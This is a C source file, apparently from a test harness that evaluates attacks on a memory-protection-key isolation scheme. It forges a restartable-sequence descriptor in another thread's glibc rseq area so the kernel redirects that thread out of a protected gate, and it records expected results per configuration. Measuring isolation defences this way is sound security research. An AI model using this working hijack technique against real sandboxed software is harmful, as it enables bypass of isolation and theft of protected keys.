/*
 * rseq.c - an attack by restartable sequences (rseq(2), <linux/rseq.h>). glibc
 * registers an area for every thread, in memory that anybody can write. At the
 * next preemption the kernel finds there in which range of addresses the thread
 * must not have been, and where it is to go on if it was.
 */
#include "attack.h"

#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <string.h>
#include <sys/rseq.h>
#include <unistd.h>

extern const char rseq_landing[];
void rseq_landed(void);

static void *sign_for_ever(void *arg)
{
    (void)arg;
    outcome_thread();
    victim_sign_for_ever();
}

/* The rights are those of the place that it was taken from. If that was in the
 * module and outside of the domain, it may have had signals blocked, or a lock:
 * the next try is by a fresh program. */
void rseq_landed(void)
{
    sigset_t none;

    sigemptyset(&none);
    pthread_sigmask(SIG_SETMASK, &none, NULL);
    /* There is no way back from it but a fault. */
    if (!SURVIVES(victim_read_target())) {
        attack_again();
    }
}

static struct rseq_cs forged __attribute__((aligned(32)));

static bool forge(const struct mapping *m, void *arg)
{
    uintptr_t inside = (uintptr_t)module_symbol("mpk_gate");

    (void)arg;
    if (inside - (uintptr_t)m->start >= m->len) {
        return false;
    }
    forged.start_ip = (uintptr_t)m->start;
    forged.post_commit_offset = m->len;
    forged.abort_ip = (uintptr_t)rseq_landing;
    return true;
}

static struct rseq *area_of(pthread_t thread)
{
    return (struct rseq *)((char *)thread + __rseq_offset);
}

/* With the signing thread on this CPU, so that waking up preempts it; and
 * registered, which libc does if its maker's area says that this one is. */
static void send_elsewhere(void)
{
    struct rseq *area;
    pthread_t thread;
    cpu_set_t one;

    victim_ready();
    search_maps(forge, NULL);
    if (forged.start_ip == 0) {
        trouble("no code of the module");
    }
    *(volatile __u32 *)&area_of(pthread_self())->cpu_id = 0;
    CPU_ZERO(&one);
    CPU_SET(sched_getcpu(), &one);
    if (sched_setaffinity(0, sizeof(one), &one) != 0 ||
        pthread_create(&thread, NULL, sign_for_ever, NULL) != 0) {
        trouble("a thread");
    }
    area = area_of(thread);
    for (int i = 0; i < 2000; i++) {
        *(volatile __u64 *)&area->rseq_cs = (uintptr_t)&forged;
        usleep(1000);
    }
    cell("it stays where it is");
}

const struct attack rseq_attacks[] = {
    {"rseq", "T1: `rseq(2)`",
     "writes to the area that libc registers for a thread, so that the kernel "
     "sends the thread elsewhere while it is inside",
     KEYS, send_elsewhere,
     .want = {NULL, "it stays where it is", "it stays where it is"}},
    {"rseq_keep", "the same, `rseq = keep`", "the same", KEEP_RSEQ,
     send_elsewhere, .want = {NULL, "**key read**", "**key read**"}},
    {0},
};
